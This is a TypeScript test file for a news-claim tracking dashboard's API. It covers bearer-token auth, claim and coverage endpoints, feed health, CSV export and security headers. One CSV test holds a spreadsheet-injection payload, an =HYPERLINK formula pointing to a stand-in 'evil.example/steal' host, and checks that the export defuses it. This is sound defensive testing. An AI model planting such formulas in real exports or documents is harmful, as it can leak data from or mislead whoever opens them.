// The dashboard's JSON and CSV against the real Postgres (and PGlite), seeded through the db query functions.
import { type ClaimStatusDetail, createDb, listClaimStatus } from "@claimwatch/db";
import { createTestDb, drivers } from "@claimwatch/db/testing";
import { createLogger } from "@claimwatch/runtime";
import type { Hono } from "hono";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { formulaQuote, hostileQuote, hostileTitle, type SeededDashboard, seedDashboard } from "./__fixtures__/seed-dashboard.ts";
import { createDashboardApp } from "./app.ts";
import type { ClaimDetail } from "./claim-detail.ts";

const token = "api-test-token-0123456789abcdef";
const auth = { Authorization: `Bearer ${token}` };
const log = createLogger({ service: "dashboard-test", level: "silent" });

// On both drivers: the embedded PGlite is what a fresh install runs on.
describe.each(drivers)("dashboard API on %s", (driver) => {
  let h: Awaited<ReturnType<typeof createTestDb>>;
  let app: Hono;
  let seeded: SeededDashboard;
  const get = (path: string, headers: Record<string, string> = auth) => app.request(path, { headers });

  beforeAll(async () => {
    h = await createTestDb(driver);
    seeded = await seedDashboard(h.db);
    app = createDashboardApp({
      db: h.db,
      log,
      token,
      queueCounts: async () => ({ "article-fetch": { waiting: 4, active: 1, delayed: 0, failed: 2, completed: 9 } }),
      failedJobs: async () => [
        { queue: "article-fetch", id: "article-fetch-7", name: "article-fetch", failed_reason: "timeout after 20000 ms", attempts_made: 5, failed_at: "2025-06-20T10:00:00.000Z", data: { articleId: 7 } },
      ],
    });
  });
  afterAll(async () => h?.dispose());

  it("keeps every API route and page behind the token", async () => {
    for (const path of ["/api/claims", "/api/claims/nk_workers_in_russia", "/api/coverage", "/api/feeds", "/api/health", "/api/observations.csv", "/admin/queues"]) {
      const res = await get(path, {});
      expect(res.status, path).toBe(401);
      expect(await res.text()).not.toContain("30,000");
    }
    expect((await get("/api/claims", { Authorization: "Bearer wrong-token-0123456789abcd" })).status).toBe(401);
    const page = await get("/", { Accept: "text/html" });
    expect(page.status).toBe(303);
    expect(page.headers.get("location")).toBe("/login");
  });

  it("serves /api/claims as the claim_status rows, the ones `claimwatch status` prints", async () => {
    const res = await get("/api/claims");
    expect(res.status).toBe(200);
    const rows = (await res.json()) as ClaimStatusDetail[];
    const fromView = JSON.parse(JSON.stringify(await listClaimStatus(h.db))) as unknown;
    expect(rows).toEqual(fromView);
    const byKey = new Map(rows.map((r) => [r.claim, r]));
    for (const [claim, status] of Object.entries(seeded.statuses)) expect(byKey.get(claim)?.status, claim).toBe(status);
    expect(byKey.get("ru_labor_shortage_2030")).toMatchObject({ status: "no_coverage", sources: 0, latest: null, values: [] });
    expect(byKey.get("nk_workers_in_russia")).toMatchObject({ sources: 3, observations: 3, change_pct: 0, latest: { value: 15000 } });
  });

  it("gives a claim's values, every observation with its provenance, and its alerts with delivery state", async () => {
    const res = await get("/api/claims/companies_employing");
    const d = (await res.json()) as ClaimDetail;
    expect(d.claim.status).toBe("conflicting");
    expect(d.values.map((v) => [v.value, v.sources])).toEqual([[150, 1], [200, 1]]);
    expect(d.alerts.map((a) => [a.id, a.status, a.last_error])).toEqual([
      [seeded.alertIds.companiesPending, "pending", null],
      [seeded.alertIds.companiesFailed, "failed", "550 mailbox unavailable"],
    ]);
    expect(d.observations).toHaveLength(seeded.observationCounts.companies_employing!);
    expect(d.observations[0]).toMatchObject({ value: 200, outlet: "Steppe Daily", quote: "About 200 firms now hire them.", alert_status: "failed" });
    expect(d.observations[0]?.observed_at).toBe("2025-06-24T09:00:00.000Z");

    const workers = (await (await get("/api/claims/nk_workers_in_russia")).json()) as ClaimDetail;
    const hostile = workers.observations.find((o) => o.article_id === seeded.articleIds.hostile);
    expect(hostile).toMatchObject({ title: hostileTitle, quote: hostileQuote, alert_id: seeded.alertIds.workers, alert_status: "sent" });
    expect(workers.values.find((v) => v.value === 30000)?.recent_sources.map((s) => s.article_id).sort()).toEqual(
      [seeded.articleIds.harbor, seeded.articleIds.hostile].sort(),
    );
    expect((await get("/api/claims/no_such_claim")).status).toBe(404);
  });

  it("pages a claim's observations newest first with a cursor", async () => {
    const first = (await (await get("/api/claims/nk_workers_in_russia?limit=2")).json()) as ClaimDetail;
    expect(first.observations.map((o) => o.value)).toEqual([15000, 30000]);
    expect(first.next_before).not.toBeNull();
    const rest = (await (await get(`/api/claims/nk_workers_in_russia?limit=2&before=${encodeURIComponent(first.next_before!)}`)).json()) as ClaimDetail;
    expect(rest.observations.map((o) => o.article_id)).toEqual([seeded.articleIds.harbor]);
    expect(rest.next_before).toBeNull();
  });

  it("counts relevant articles per week and lists the latest with their mentions", async () => {
    const c = (await (await get("/api/coverage")).json()) as { weeks: { week: string; articles: number }[]; latest: { id: number; mentions: string[] }[] };
    expect(c.weeks).toEqual([
      { week: "2025-06-09T00:00:00.000Z", articles: 1 },
      { week: "2025-06-16T00:00:00.000Z", articles: 1 },
      { week: "2025-06-23T00:00:00.000Z", articles: 1 },
    ]);
    expect(c.latest.map((a) => a.id)).toEqual([seeded.articleIds.steppe, seeded.articleIds.hostile, seeded.articleIds.harbor]);
    expect(c.latest[1]?.mentions).toEqual([hostileQuote]);
  });

  it("reports each feed's state and the queues' health", async () => {
    const feeds = (await (await get("/api/feeds")).json()) as { name: string; status: string; last_error: string | null; next_poll_at: string | null }[];
    expect(feeds.map((f) => [f.name, f.status, f.last_error])).toEqual([
      ["Desk wire", "ok", null],
      ["Broken feed", "failing", seeded.failingFeedError],
    ]);
    expect(feeds.every((f) => f.next_poll_at !== null)).toBe(true);
    const health = await get("/api/health");
    expect(health.status).toBe(200);
    expect(await health.json()).toMatchObject({
      ok: true,
      database: "ok",
      queues: { "article-fetch": { waiting: 4, failed: 2 } },
      feeds: { total: 2, failing: 1 },
      failed_jobs: [{ id: "article-fetch-7", failed_reason: "timeout after 20000 ms" }],
    });
  });

  it("answers 503 from /api/health when the database is gone", async () => {
    const dead = await createDb({ databaseUrl: "postgres://postgres@127.0.0.1:1/none", dataDir: "unused" });
    const broken = createDashboardApp({ db: dead.db, log, queueCounts: async () => null });
    const res = await broken.request("/api/health");
    expect(res.status).toBe(503);
    expect(await res.json()).toMatchObject({ ok: false, database: expect.stringMatching(/^error/) });
    await dead.close();
  });

  it("exports observations as CSV, every claim or one, with formulas defused", async () => {
    const res = await get("/api/observations.csv");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toContain("attachment");
    const lines = (await res.text()).replace(/^\uFEFF/, "").trimEnd().split("\r\n");
    expect(lines[0]).toBe(
      "observation_id,claim,observed_at,value,low,high,unit,currency,qualifier,verdict,quote,article_id,title,outlet,url,published_at,alert_id,alert_status",
    );
    const total = Object.values(seeded.observationCounts).reduce((a, b) => a + b, 0);
    expect(lines).toHaveLength(1 + total);
    const formula = lines.find((l) => l.includes("HYPERLINK"));
    expect(formula).toContain(`"'=HYPERLINK(""http://evil.example/steal"",""8,600 visas"")"`);
    expect(lines.some((l) => /(^|,)[=+\-@]/.test(l))).toBe(false);

    const one = (await (await get("/api/observations.csv?claim=nk_workers_in_russia")).text()).trimEnd().split("\r\n");
    expect(one).toHaveLength(1 + seeded.observationCounts.nk_workers_in_russia!);
    expect(one.slice(1).every((l) => l.split(",")[1] === "nk_workers_in_russia")).toBe(true);
    expect((await get("/api/observations.csv?claim=nope")).status).toBe(404);
  });

  it("sends a Content-Security-Policy with every page and no token in any page", async () => {
    for (const path of ["/", "/claims/nk_workers_in_russia", "/coverage", "/health"]) {
      const res = await get(path);
      expect(res.status, path).toBe(200);
      expect(res.headers.get("content-security-policy")).toContain("default-src 'none'");
      expect(res.headers.get("x-content-type-options")).toBe("nosniff");
      expect(await res.text()).not.toContain(token);
    }
  });
});
